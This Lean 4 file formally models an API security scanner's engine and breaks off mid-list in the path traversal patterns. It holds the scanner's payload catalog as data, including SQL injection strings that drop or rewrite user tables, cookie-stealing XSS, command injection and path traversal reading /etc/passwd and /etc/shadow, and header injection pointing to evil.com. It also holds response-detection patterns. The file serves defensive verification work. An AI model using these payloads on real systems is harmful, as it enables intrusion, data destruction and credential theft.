import Mathlib

/-!
Verification of the API-Security-Scanner scan engine.

This file gives a shallow embedding, in Lean 4, of the scanner core of the
repository: the payload catalog, the injection strategy (`injectPayload`),
the request dispatcher (`sendRequest`), the ten analyzer plugins
(`analyzeResponse` of each scanner module), and the scan orchestrator
(`scanEndpoint`, `runScan`).  JavaScript strings are modelled as Lean
`String`s, JS objects used as string maps as insertion-ordered association
lists, and JS regular expressions by a small derivative-based matcher over
an explicit regex syntax.  Response bodies are modelled as the string the
analyzers obtain after their `typeof data === "string" ? data :
JSON.stringify(data)` normalization, so that normalization is the identity
here.  The network (axios) is modelled as an oracle mapping each dispatched
request descriptor to an outcome, which makes every scan function a total,
deterministic function of the endpoint, the options and the oracle.
-/

/-! ### Generic string helpers (JS semantics) -/

/-- JS `hay.includes(needle)` for strings: substring containment. -/
def containsStr (hay needle : String) : Bool :=
  decide (needle.toList <:+: hay.toList)

/-- JS `s.toLowerCase()` (ASCII case folding, which covers every string the
scanner compares). -/
def lowerStr (s : String) : String :=
  String.mk (s.toList.map Char.toLower)

/-- JS `s.slice(0, n)` / `s.substring(0, n)`. -/
def jsSlice (s : String) (n : Nat) : String :=
  String.mk (s.toList.take n)

/-- JS template interpolation of a number. -/
def natStr (n : Nat) : String := toString n

/-! ### A derivative-based matcher for the JS regular expressions used by the
analyzers.  Character classes are predicates; `.` excludes line
terminators as in JS; `test` is unanchored search, as JS `RegExp.test`. -/

inductive RE where
  | emp : RE
  | eps : RE
  | cls : (Char → Bool) → RE
  | alt : RE → RE → RE
  | cat : RE → RE → RE
  | star : RE → RE

def RE.nullable : RE → Bool
  | .emp => false
  | .eps => true
  | .cls _ => false
  | .alt a b => a.nullable || b.nullable
  | .cat a b => a.nullable && b.nullable
  | .star _ => true

def RE.deriv : RE → Char → RE
  | .emp, _ => .emp
  | .eps, _ => .emp
  | .cls p, c => if p c then .eps else .emp
  | .alt a b, c => .alt (a.deriv c) (b.deriv c)
  | .cat a b, c =>
      if a.nullable then .alt (.cat (a.deriv c) b) (b.deriv c)
      else .cat (a.deriv c) b
  | .star a, c => .cat (a.deriv c) (.star a)

/-- Does `r` match some prefix of the input? -/
def matchPre (r : RE) : List Char → Bool
  | [] => r.nullable
  | c :: cs => r.nullable || matchPre (r.deriv c) cs

/-- Does `r` match somewhere in the input (JS `RegExp.test`)? -/
def reSearch (r : RE) : List Char → Bool
  | [] => r.nullable
  | c :: cs => matchPre r (c :: cs) || reSearch r cs

def chrRE (c : Char) : RE := .cls (fun d => d == c)

/-- Literal string regex. -/
def litRE (s : String) : RE := s.toList.foldr (fun c r => RE.cat (chrRE c) r) .eps

/-- JS `.` (anything but a line terminator). -/
def dotRE : RE := .cls (fun c => !(c == '\n' || c == '\r'))

def dotStarRE : RE := .star dotRE

/-- JS `\d`. -/
def digitRE : RE := .cls Char.isDigit

/-- JS `\s` (ASCII whitespace). -/
def wsRE : RE := .cls (fun c => c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c')

/-- JS `\w`. -/
def wordRE : RE := .cls (fun c => c.isAlphanum || c == '_')

def plusRE (r : RE) : RE := .cat r (.star r)

def optRE (r : RE) : RE := .alt r .eps

/-- `r{n}`: exactly `n` repetitions. -/
def repRE (r : RE) : Nat → RE
  | 0 => .eps
  | n + 1 => .cat r (repRE r n)

/-- Concatenation of a list of regexes. -/
def seqRE (rs : List RE) : RE := rs.foldr RE.cat .eps

/-- Alternation of a list of regexes. -/
def altsRE (rs : List RE) : RE := rs.foldr RE.alt .emp

/-- One compiled JS regex literal: the regex itself, whether the `i` flag was
set, and the exact source text of the literal (used by analyzers that embed
`pattern.toString()` into their notes).  For case-insensitive patterns the
embedded literals are pre-lowercased and the input is lowercased before
matching, which is JS `i`-flag semantics on the ASCII strings involved. -/
structure Pat where
  re : RE
  ci : Bool
  src : String

/-- JS `pattern.test(body)`. -/
def testPat (p : Pat) (body : String) : Bool :=
  reSearch p.re (if p.ci then (lowerStr body).toList else body.toList)

/-- A case-insensitive purely literal JS regex such as `/sql syntax/i`. -/
def litP (s : String) : Pat :=
  { re := litRE (lowerStr s), ci := true, src := "/" ++ s ++ "/i" }

/-- A case-insensitive literal whose JS source spelling contains escapes
(e.g. `/bin\/bash/i`): the matched text and the source text differ. -/
def litPe (s src : String) : Pat :=
  { re := litRE (lowerStr s), ci := true, src := src }

/-- A case-sensitive literal JS regex. -/
def litPcs (s src : String) : Pat :=
  { re := litRE s, ci := false, src := src }

/-! ### Data model -/

/-- A captured HTTP response as the analyzers see it.  `data` is the response
body after the analyzers' string normalization (a string body is kept, any
other body is its JSON serialization), so the normalization is the identity
in this model. -/
structure Response where
  status : Nat
  data : String
  headers : List (String × String)
deriving DecidableEq

/-- JS `headers[k]` (axios lowercases header keys of responses). -/
def getHeader (hs : List (String × String)) (k : String) : Option String :=
  (hs.find? (fun p => p.1 == k)).map (fun p => p.2)

/-- The verdict value every analyzer produces. -/
structure AnalysisResult where
  vulnerable : Bool
  confidence : String
  indicators : List String
  notes : String
deriving DecidableEq

/-- The fresh result object each analyzer initializes. -/
def initResult : AnalysisResult :=
  { vulnerable := false, confidence := "low", indicators := [], notes := "" }

/-! ### Payload catalog (`payloads.js`) -/

namespace payloads

def sqlInjection : List String := [
  "\x27 OR \x271\x27=\x271",
  "\" OR \"1\"=\"1",
  "\x27 OR \x271\x27=\x271\x27 \x2d-",
  "\" OR \"1\"=\"1\" \x2d-",
  "\x27 OR \x271\x27=\x271\x27 \x2f*",
  "1\x27 OR \x271\x27=\x271",
  "1\" OR \"1\"=\"1",
  "\x27 UNION SELECT NULL\x2d-",
  "\x27 UNION SELECT NULL, NULL\x2d-",
  "\x27 UNION SELECT username, password FROM users\x2d-",
  "1 UNION SELECT * FROM users",
  "\x27 AND 1=CONVERT(int, @@version)\x2d-",
  "\x27 AND 1=1\x2d-",
  "\x27 AND 1=2\x2d-",
  "\x27; WAITFOR DELAY \x270:0:5\x27\x2d-",
  "\x27 OR SLEEP(5)\x2d-",
  "1\x27 AND SLEEP(5)#",
  "\x27; DROP TABLE users\x2d-",
  "\x27; INSERT INTO users VALUES(\x27hacker\x27,\x27hacked\x27)\x2d-",
  "\x27; UPDATE users SET password=\x27hacked\x27\x2d-",
  "\x7b\x27$gt\x27: \x27\x27\x7d",
  "\x7b\x27$ne\x27: null\x7d",
  "admin\x27\x2d-",
  "1; DROP TABLE users",
  "1\x27); DROP TABLE users\x2d-",
  "\x27 OR \x27\x27=\x27",
  "\x27 OR 1=1#",
  "admin\x27\x2f*",
  "\x27) OR (\x271\x27=\x271"]

def xss : List String := [
  "<script>alert(1)</script>",
  "<script>alert(\x27XSS\x27)</script>",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=\x27alert(1)\x27>",
  "<svg onload=alert(1)>",
  "<body onload=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<marquee onstart=alert(1)>",
  "<video><source onerror=alert(1)>",
  "\" onclick=\"alert(1)\"",
  "\x27 onclick=\x27alert(1)\x27",
  "\" onfocus=\"alert(1)\" autofocus=\"",
  "javascript:alert(1)",
  "javascript:alert(document.domain)",
  "data:text/html,<script>alert(1)</script>",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "\x7b\x7bconstructor.constructor(\x27alert(1)\x27)()\x7d\x7d",
  "$\x7balert(1)\x7d",
  "#\x7balert(1)\x7d",
  "\x27-alert(1)-\x27",
  "\"-alert(1)-\"",
  "</script><script>alert(1)</script>"]

def commandInjection : List String := [
  "; ls",
  "; ls -la",
  "| ls",
  "| ls -la",
  "& ls",
  "&& ls",
  "; cat /etc/passwd",
  "| cat /etc/passwd",
  "; whoami",
  "| whoami",
  "&& whoami",
  "& whoami",
  "; id",
  "| id",
  "; uname -a",
  "| uname -a",
  "& dir",
  "| dir",
  "; dir",
  "&& dir",
  "| type C:\\Windows\\System32\\drivers\\etc\\hosts",
  "; type C:\\Windows\\win.ini",
  "& whoami",
  "| net user",
  "; sleep 5",
  "| sleep 5",
  "&& sleep 5",
  "; ping -c 5 127.0.0.1",
  "| ping -n 5 127.0.0.1",
  "\x60ls\x60",
  "\x60whoami\x60",
  "\x60cat /etc/passwd\x60",
  "$(ls)",
  "$(whoami)",
  "$(cat /etc/passwd)",
  "%0als",
  "%0awhoami",
  "\\nls",
  "\\nwhoami",
  "; ls%00",
  "| whoami%00"]

def pathTraversal : List String := [
  "../../../etc/passwd",
  "../../../../etc/passwd",
  "../../../../../etc/passwd",
  "../../../../../../etc/passwd",
  "../../../etc/shadow",
  "../../../etc/hosts",
  "../../../var/log/auth.log",
  "../../../root/.bash_history",
  "..\\..\\..\\windows\\system.ini",
  "..\\..\\..\\..\\windows\\system.ini",
  "..\\..\\..\\windows\\win.ini",
  "..\\..\\..\\..\\boot.ini",
  "....//....//....//etc/passwd",
  "....//..//..//..//windows/system.ini",
  "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini",
  "..%2f..%2f..%2fetc%2fpasswd",
  "..%5c..%5c..%5cwindows%5csystem.ini",
  "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
  "..%252f..%252f..%252fetc%252fpasswd",
  "../../../etc/passwd%00",
  "../../../etc/passwd%00.jpg",
  "../../../etc/passwd\x00.jpg",
  "..%c0%af..%c0%af..%c0%afetc/passwd",
  "..%c1%9c..%c1%9c..%c1%9cwindows/system.ini",
  "....//....//....//etc/passwd",
  "..../\\/..../\\/..../\\/etc/passwd",
  "..;/..;/..;/etc/passwd"]

def headerInjection : List String := [
  "%0d%0aSet-Cookie: malicious=value",
  "%0d%0aLocation: http://evil.com",
  "\\r\\nX-Injected: header",
  "%0aX-Injected: header",
  "evil.com",
  "localhost",
  "127.0.0.1",
  "127.0.0.1, evil.com",
  "localhost"]

end payloads

/-! ### SQL injection scanner (`sql.js`) -/

namespace sql

/-- A case-insensitive non-literal pattern built from regex parts. -/
def ciPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := true, src := src }

/-- `sqlErrorPatterns` of `sql.js`, in source order. -/
def sqlErrorPatterns : List Pat := [
  litP "sql syntax",
  litP "mysql_fetch",
  litP "mysql_num_rows",
  litP "mysql_query",
  litP "pg_query",
  litP "pg_exec",
  litP "sqlite_",
  ciPat [litRE "ora-", repRE digitRE 5] "/ORA-\\d\x7b5\x7d/i",
  litP "Oracle error",
  litP "ODBC SQL Server Driver",
  litP "SQLServer JDBC Driver",
  litP "Microsoft OLE DB Provider",
  litP "Incorrect syntax near",
  litP "Unclosed quotation mark",
  litP "quoted string not properly terminated",
  litP "syntax error at or near",
  litP "unexpected end of SQL command",
  litP "invalid column name",
  litP "unknown column",
  litP "no such column",
  ciPat [litRE "column", dotStarRE, litRE "does not exist"] "/column.*does not exist/i",
  ciPat [litRE "table", dotStarRE, litRE "doesn\x27t exist"] "/table.*doesn\x27t exist/i",
  litP "no such table",
  litP "division by zero",
  litP "You have an error in your SQL syntax",
  ciPat [litRE "warning", dotStarRE, litRE "mysql_"] "/Warning.*mysql_/i",
  litP "valid MySQL result",
  ciPat [litRE "postgresql", dotStarRE, litRE "error"] "/PostgreSQL.*ERROR/i",
  ciPat [litRE "warning", dotStarRE, litRE "pg_"] "/Warning.*pg_/i",
  ciPat [litRE "warning", dotStarRE, litRE "sqlite_"] "/Warning.*sqlite_/i",
  litPe "SQLite/JDBCDriver" "/SQLite\\/JDBCDriver/i",
  ciPat [litRE "sqlite", dotRE, litRE "exception"] "/SQLite.Exception/i",
  ciPat [litRE "system", dotRE, litRE "data", dotRE, litRE "sqlite", dotRE, litRE "sqliteexception"]
    "/System.Data.SQLite.SQLiteException/i",
  litP "SQLITE_ERROR",
  ciPat [litRE "sql server", dotStarRE, litRE "driver"] "/SQL Server.*Driver/i",
  ciPat [litRE "sql server", dotStarRE, litRE "error"] "/SQL Server.*Error/i",
  ciPat [litRE "access", dotStarRE, litRE "driver"] "/Access.*Driver/i",
  litP "Jet Database Engine",
  ciPat [litRE "driver", dotStarRE, litRE "sql",
         RE.star (.cls (fun c => c == '-' || c == '_' || c == ' ')), litRE "server"]
    "/Driver.*SQL[-_ ]*Server/i",
  litP "SQLSTATE",
  litP "psycopg2",
  litP "mysqli",
  litP "PDOException",
  litP "db2_",
  litP "ifx_",
  litP "sybase"]

/-- `successPatterns` of `sql.js`. -/
def successPatterns : List Pat := [
  ciPat [litRE "root:", dotStarRE, litRE ":0:0"] "/root:.*:0:0/i",
  ciPat [litRE "admin", dotStarRE, litRE "password"] "/admin.*password/i",
  ciPat [litRE "user", dotStarRE, litRE "password"] "/user.*password/i",
  ciPat [litRE "login", dotStarRE, litRE "success", dotStarRE, litRE "true"] "/login.*success.*true/i",
  ciPat [litRE "authentication", dotStarRE, litRE "bypass"] "/authentication.*bypass/i"]

/-- The auth-bypass body check `/success|authenticated|welcome|token|session|jwt|bearer/i`. -/
def authBodyPat : Pat :=
  { re := altsRE [litRE "success", litRE "authenticated", litRE "welcome", litRE "token",
                  litRE "session", litRE "jwt", litRE "bearer"],
    ci := true,
    src := "/success|authenticated|welcome|token|session|jwt|bearer/i" }

/-- The verbose-error check `/stack trace|exception|error.*line \d+/i`. -/
def verbosePat : Pat :=
  { re := altsRE [litRE "stack trace", litRE "exception",
                  seqRE [litRE "error", dotStarRE, litRE "line ", plusRE digitRE]],
    ci := true,
    src := "/stack trace|exception|error.*line \\d+/i" }

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "request blocked",
  "security block",
  "firewall",
  "cloudflare",
  "akamai",
  "imperva",
  "incapsula",
  "sucuri",
  "mod_security",
  "web application firewall",
  "waf",
  "attack detected",
  "malicious request",
  "sql injection",
  "invalid request",
  "request rejected"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"
  || containsStr bodyLower "cf-ray"

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if isWAFBlocked response responseBody then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ WAF/Firewall blocked the malicious request",
                     "Response status: " ++ natStr response.status],
      notes := "PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF." }
  else if 400 ≤ response.status && response.status < 500 && response.status != 401 then
    { vulnerable := false, confidence := "low",
      indicators := ["Request rejected with status " ++ natStr response.status],
      notes := "Request was rejected - server may have input validation" }
  else
    let r1 :=
      match sqlErrorPatterns.find? (fun p => testPat p responseBody) with
      | some p =>
        { initResult with
            vulnerable := true, confidence := "high",
            indicators := initResult.indicators ++ ["⚠️ SQL error message detected in response"],
            notes := "VULNERABLE: SQL error exposed - " ++ jsSlice p.src 50 }
      | none => initResult
    let r2 :=
      if successPatterns.any (fun p => testPat p responseBody) then
        { r1 with
            vulnerable := true, confidence := "high",
            indicators := r1.indicators ++ ["⚠️ Potential data leakage detected"],
            notes := "VULNERABLE: Sensitive data pattern found in response" }
      else r1
    let r3 :=
      if (containsStr payload "OR \x271\x27=\x271" || containsStr payload "OR \"1\"=\"1") &&
         response.status == 200 && testPat authBodyPat responseBody then
        { r2 with
            vulnerable := true, confidence := "high",
            indicators := r2.indicators ++ ["⚠️ Potential authentication bypass"],
            notes := "VULNERABLE: SQL injection payload resulted in successful authentication" }
      else r2
    let r4 :=
      match originalStatus with
      | some os =>
        if response.status != os && response.status == 200 && 400 ≤ os then
          { r3 with
              vulnerable := true, confidence := "medium",
              indicators := r3.indicators ++ ["⚠️ Status code changed from error to success"],
              notes := "SUSPICIOUS: Injection changed response from error to success" }
        else r3
      | none => r3
    let r5 :=
      if !r4.vulnerable then
        { r4 with
          indicators := r4.indicators ++ ["No SQL injection indicators found"],
          notes := "SAFE: No SQL error messages or injection indicators detected in response" }
      else r4
    if testPat verbosePat responseBody then
      { r5 with indicators := r5.indicators ++ ["ℹ️ Verbose error messages detected (info disclosure)"] }
    else r5

def getPayloads : List String := payloads.sqlInjection

def getType : String := "SQL Injection"

def getSeverity : String := "Critical"

end sql

/-! ### JS `decodeURIComponent` (used by the XSS reflection check):
percent-sequences become bytes, other characters contribute their UTF-8
bytes, and the byte sequence must decode as valid UTF-8, else the JS
function throws (modelled as `none`). -/

def hexVal (c : Char) : Option Nat :=
  if '0' ≤ c && c ≤ '9' then some (c.toNat - 48)
  else if 'a' ≤ c && c ≤ 'f' then some (c.toNat - 87)
  else if 'A' ≤ c && c ≤ 'F' then some (c.toNat - 55)
  else none

/-- UTF-8 encoding of one code point. -/
def utf8Bytes (n : Nat) : List Nat :=
  if n < 0x80 then [n]
  else if n < 0x800 then [0xC0 + n / 64, 0x80 + n % 64]
  else if n < 0x10000 then [0xE0 + n / 4096, 0x80 + (n / 64) % 64, 0x80 + n % 64]
  else [0xF0 + n / 262144, 0x80 + (n / 4096) % 64, 0x80 + (n / 64) % 64, 0x80 + n % 64]

/-- Percent-decoding to a byte sequence; `none` models the JS `URIError` for a
`%` not followed by two hex digits. -/
def pctBytes : List Char → Option (List Nat)
  | [] => some []
  | '%' :: h1 :: h2 :: rest =>
    match hexVal h1, hexVal h2 with
    | some a, some b => (pctBytes rest).map (fun bs => (16 * a + b) :: bs)
    | _, _ => none
  | '%' :: _ => none
  | c :: rest => (pctBytes rest).map (fun bs => utf8Bytes c.toNat ++ bs)

/-- Is `b` a UTF-8 continuation byte? -/
def contByte (b : Nat) : Bool := 0x80 ≤ b && b < 0xC0

/-- Strict UTF-8 decoding of a byte sequence. -/
def utf8Decode : List Nat → Option (List Char)
  | [] => some []
  | b :: bs =>
    if b < 0x80 then (utf8Decode bs).map (fun cs => Char.ofNat b :: cs)
    else if 0xC0 ≤ b && b < 0xE0 then
      match bs with
      | b2 :: bs2 =>
        if contByte b2 then
          let n := (b - 0xC0) * 64 + (b2 - 0x80)
          if n.isValidChar then (utf8Decode bs2).map (fun cs => Char.ofNat n :: cs) else none
        else none
      | [] => none
    else if 0xE0 ≤ b && b < 0xF0 then
      match bs with
      | b2 :: b3 :: bs3 =>
        if contByte b2 && contByte b3 then
          let n := (b - 0xE0) * 4096 + (b2 - 0x80) * 64 + (b3 - 0x80)
          if n.isValidChar then (utf8Decode bs3).map (fun cs => Char.ofNat n :: cs) else none
        else none
      | _ => none
    else if 0xF0 ≤ b && b < 0xF8 then
      match bs with
      | b2 :: b3 :: b4 :: bs4 =>
        if contByte b2 && contByte b3 && contByte b4 then
          let n := (b - 0xF0) * 262144 + (b2 - 0x80) * 4096 + (b3 - 0x80) * 64 + (b4 - 0x80)
          if n.isValidChar then (utf8Decode bs4).map (fun cs => Char.ofNat n :: cs) else none
        else none
      | _ => none
    else none

def jsDecodeURIComponent (s : String) : Option String :=
  (pctBytes s.toList).bind (fun bs => (utf8Decode bs).map String.mk)

/-- JS `array.join(", ")`. -/
def joinComma (l : List String) : String := String.intercalate ", " l

/-- JS truthiness of an optional string-valued field (absent or empty string
are falsy). -/
def jsTruthyOpt (o : Option String) : Bool :=
  match o with
  | some s => s != ""
  | none => false

/-! ### XSS scanner (`xss.js`) -/

namespace xss

/-- `dangerousPatterns` of `xss.js`, in source order. -/
def dangerousPatterns : List String := [
  "<script>",
  "</script>",
  "javascript:",
  "onerror=",
  "onload=",
  "onclick=",
  "onmouseover=",
  "onfocus=",
  "onblur=",
  "<img",
  "<svg",
  "<iframe"]

/-- The HTML-entity decoding of `isPayloadReflected`, with the source's
replacement order. -/
def htmlDecode (payload : String) : String :=
  ((((payload.replace "&lt;" "<").replace "&gt;" ">").replace "&amp;" "&").replace "&quot;" "\"").replace "&#39;" "\x27"

def isPayloadReflected (responseBody payload : String) : Bool :=
  containsStr responseBody payload ||
  (match jsDecodeURIComponent payload with
   | some d => containsStr responseBody d
   | none => false) ||
  containsStr responseBody (htmlDecode payload)

def checkDangerousContent (responseBody payload : String) : List String :=
  dangerousPatterns.filter (fun pat =>
    containsStr (lowerStr payload) (lowerStr pat) &&
    containsStr (lowerStr responseBody) (lowerStr pat))

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "request blocked",
  "security block",
  "firewall",
  "cloudflare",
  "akamai",
  "imperva",
  "incapsula",
  "sucuri",
  "mod_security",
  "web application firewall",
  "waf",
  "attack detected",
  "malicious request",
  "sql injection",
  "cross-site scripting",
  "xss detected",
  "invalid request",
  "request rejected"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"
  || containsStr bodyLower "cf-ray"

/-- The 4xx/5xx benign-rejection body words. -/
def errorIndicators : List String := ["invalid", "error", "bad request", "not allowed", "rejected"]

/-- The three security headers inspected informationally. -/
def securityHeaderKeys : List String :=
  ["x-xss-protection", "content-security-policy", "x-content-type-options"]

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if isWAFBlocked response responseBody then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ WAF/Firewall blocked the malicious request",
                     "Response status: " ++ natStr response.status],
      notes := "PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF." }
  else if 400 ≤ response.status && response.status < 600 &&
          errorIndicators.any (fun ind => containsStr (lowerStr responseBody) ind) then
    { initResult with
        indicators := ["Request rejected with status " ++ natStr response.status],
        notes := "Request was rejected by the server - input validation may be in place" }
  else
    let r1 :=
      if isPayloadReflected responseBody payload then
        let dangerousContent := checkDangerousContent responseBody payload
        if dangerousContent.length > 0 then
          { initResult with
              vulnerable := true, confidence := "high",
              indicators := ["⚠️ Payload reflected without sanitization",
                             "Dangerous content found: " ++ joinComma dangerousContent],
              notes := "VULNERABLE: XSS payload was reflected in the response without proper encoding. This could allow script execution." }
        else
          { initResult with
              vulnerable := true, confidence := "medium",
              indicators := ["Payload reflected in response"],
              notes := "Payload found in response - verify if properly escaped in browser context" }
      else
        { initResult with
            indicators := ["Payload was not reflected in response"],
            notes := "SAFE: The XSS payload was not reflected in the server response" }
    let r2 :=
      if !r1.vulnerable && response.status == 200 && containsStr responseBody payload then
        { r1 with
            vulnerable := true, confidence := "high",
            indicators := r1.indicators ++ ["⚠️ Exact payload found in 200 OK response"],
            notes := "VULNERABLE: The exact XSS payload appears in a successful response" }
      else r1
    let missingHeaders :=
      securityHeaderKeys.filter (fun k => !(jsTruthyOpt (getHeader response.headers k)))
    if missingHeaders.length > 0 && r2.vulnerable then
      { r2 with indicators := r2.indicators ++ ["Missing security headers: " ++ joinComma missingHeaders] }
    else r2

def getPayloads : List String := payloads.xss

def getType : String := "XSS"

def getSeverity : String := "High"

end xss

/-! ### Command injection scanner (`commandInjection.js`) -/

namespace commandInjection

/-- A case-insensitive non-literal pattern built from regex parts. -/
def ciPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := true, src := src }

/-- `commandOutputPatterns` of `commandInjection.js`, in source order. -/
def commandOutputPatterns : List Pat := [
  ciPat [litRE "root:", dotStarRE, litRE ":0:0:"] "/root:.*:0:0:/i",
  litPe "bin/bash" "/bin\\/bash/i",
  litPe "bin/sh" "/bin\\/sh/i",
  ciPat [litRE "nobody:", dotStarRE, litRE ":65534"] "/nobody:.*:65534/i",
  ciPat [litRE "daemon:", dotStarRE, litRE ":1:1"] "/daemon:.*:1:1/i",
  ciPat [litRE "uid=", plusRE digitRE, dotStarRE, litRE "gid=", plusRE digitRE] "/uid=\\d+.*gid=\\d+/i",
  ciPat [litRE "linux", dotStarRE, plusRE digitRE, litRE ".", plusRE digitRE, litRE ".", plusRE digitRE]
    "/Linux.*\\d+\\.\\d+\\.\\d+/i",
  ciPat [litRE "total ", plusRE digitRE, plusRE wsRE, litRE "drwx"] "/total \\d+\\s+drwx/i",
  litP "drwxr-xr-x",
  litP "-rw-r\x2d-r\x2d-",
  ciPat [litRE "/home/", plusRE wordRE] "/\\/home\\/\\w+/i",
  litPe "/usr/bin" "/\\/usr\\/bin/i",
  litPe "/var/log" "/\\/var\\/log/i",
  litP "Volume Serial Number",
  litP "Directory of",
  ciPat [repRE digitRE 2, litRE "/", repRE digitRE 2, litRE "/", repRE digitRE 4]
    "/\\d\x7b2\x7d\\/\\d\x7b2\x7d\\/\\d\x7b4\x7d/i",
  litP "Windows IP Configuration",
  litP "Ethernet adapter",
  litPe "C:\\Windows" "/C:\\\\Windows/i",
  litPe "C:\\Users" "/C:\\\\Users/i",
  litP "Program Files",
  litP "SYSTEM32",
  litPe "[boot loader]" "/\\[boot loader\\]/i",
  litPe "[operating systems]" "/\\[operating systems\\]/i",
  litPe "[fonts]" "/\\[fonts\\]/i",
  litPe "[extensions]" "/\\[extensions\\]/i",
  litP "COMPUTERNAME=",
  litP "USERNAME=",
  litP "USERDOMAIN=",
  litP "command not found",
  litP "not recognized as an internal or external command",
  litP "No such file or directory",
  litP "Permission denied",
  litP "Access is denied",
  litP "cannot find the path",
  litP "is not recognized as a cmdlet"]

/-- `timingKeywords` of `commandInjection.js`. -/
def timingKeywords : List String := ["sleep", "WAITFOR", "ping -c", "ping -n"]

/-- The shell-error patterns checked after the timing check, in source order. -/
def errorPatterns : List Pat := [
  ciPat [litRE "sh: ", dotStarRE, litRE ": not found"] "/sh: .*: not found/i",
  ciPat [litRE "bash: ", dotStarRE, litRE ": command not found"] "/bash: .*: command not found/i",
  ciPat [litRE "cmd", dotRE, litRE "exe", dotStarRE, litRE "is not recognized"]
    "/cmd\\.exe.*is not recognized/i",
  ciPat [litRE "/bin/", dotStarRE, litRE ": no such file"] "/\\/bin\\/.*: No such file/i",
  litP "cannot execute binary file",
  litP "syntax error near unexpected token"]

def wafIndicators : List String := [
  "you have been blocked",
  "access denied",
  "forbidden",
  "request blocked",
  "firewall",
  "cloudflare",
  "akamai",
  "imperva",
  "waf",
  "attack detected",
  "malicious request",
  "command injection",
  "invalid request"]

def isWAFBlocked (response : Response) (responseBody : String) : Bool :=
  let bodyLower := lowerStr responseBody
  ((response.status == 403 || response.status == 406 || response.status == 429) &&
    wafIndicators.any (fun ind => containsStr bodyLower ind))
  || containsStr bodyLower "cloudflare ray id"

def analyzeResponse (response : Response) (payload : String) (originalStatus : Option Nat)
    (responseTime : Option Nat) : AnalysisResult :=
  let responseBody := response.data
  if isWAFBlocked response responseBody then
    { vulnerable := false, confidence := "high",
      indicators := ["✅ WAF/Firewall blocked the malicious request"],
      notes := "PROTECTED: WAF detected and blocked the command injection attempt." }
  else if 400 ≤ response.status && response.status < 500 then
    { vulnerable := false, confidence := "low",
      indicators := ["Request rejected with status " ++ natStr response.status],
      notes := "Request was rejected - input validation may be in place" }
  else
    let r1 :=
      match commandOutputPatterns.find? (fun p => testPat p responseBody) with
      | some p =>
        { initResult with
            vulnerable := true, confidence := "high",
            indicators := initResult.indicators ++ ["⚠️ Command output detected in response"],
            notes := "VULNERABLE: System command output found - " ++ jsSlice p.src 50 }
      | none => initResult
    let r2 :=
      match responseTime with
      | some t =>
        if timingKeywords.any (fun kw => containsStr (lowerStr payload) (lowerStr kw)) && t > 4500 then
          { r1 with
              vulnerable := true, confidence := "high",
              indicators := r1.indicators ++ ["⚠️ Time-based command injection detected"],
              notes := "VULNERABLE: Response delayed by " ++ natStr t ++ "ms - command executed" }
        else r1
      | none => r1
    let r3 :=
      if errorPatterns.any (fun p => testPat p responseBody) then
        { r2 with
            vulnerable := true, confidence := "medium",
            indicators := r2.indicators ++ ["⚠️ Shell error message in response"],
            notes := "VULNERABLE: Shell error indicates command was processed" }
      else r2
    if !r3.vulnerable then
      { r3 with
          indicators := r3.indicators ++ ["No command injection indicators found"],
          notes := "SAFE: No command execution indicators detected in response" }
    else r3

def getPayloads : List String := payloads.commandInjection

def getType : String := "Command Injection"

def getSeverity : String := "Critical"

end commandInjection

/-! ### Path traversal scanner (second module of `payloadSize.js`'s source file
pair; `pathTraversal` in the scanner registry) -/

namespace pathTraversal

def ciPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := true, src := src }

/-- A case-sensitive non-literal pattern. -/
def csPat (res : List RE) (src : String) : Pat :=
  { re := seqRE res, ci := false, src := src }

/-- `fileContentPatterns`, in source order (note that only some carry `/i`). -/
def fileContentPatterns : List Pat := [
  csPat [litRE "root:", dotStarRE, litRE ":0:0:"] "/root:.*:0:0:/",
  csPat [litRE "daemon:", dotStarRE, litRE ":1:1:"] "/daemon:.*:1:1:/",
  csPat [litRE "nobody:", dotStarRE, litRE ":65534:"] "/nobody:.*:65534:/",
  csPat [litRE "shadow:", dotStarRE, litRE ":*:"] "/shadow:.*:\\*:/",
  litPcs "bin/bash" "/bin\\/bash/",
  litPcs "bin/sh" "/bin\\/sh/",
  litPcs "localhost" "/localhost/",
  litPcs "127.0.0.1" "/127\\.0\\.0\\.1/",
  litPcs "nameserver" "/nameserver/",
  litPe "[global]" "/\\[global\\]/i",
  litPe "[boot loader]" "/\\[boot loader\\]/i",
  litPe "[operating systems]" "/\\[operating systems\\]/i",
  litPe "[fonts]" "/\\[fonts\\]/i",
  litPe "[extensions]" "/\\[extensions\\]/i",
  litPe "[Mail]" "/\\[Mail\\]/i",
  litP "; for 16-bit app support",
  litPe "[drivers]" "/\\[drivers\\]/i",
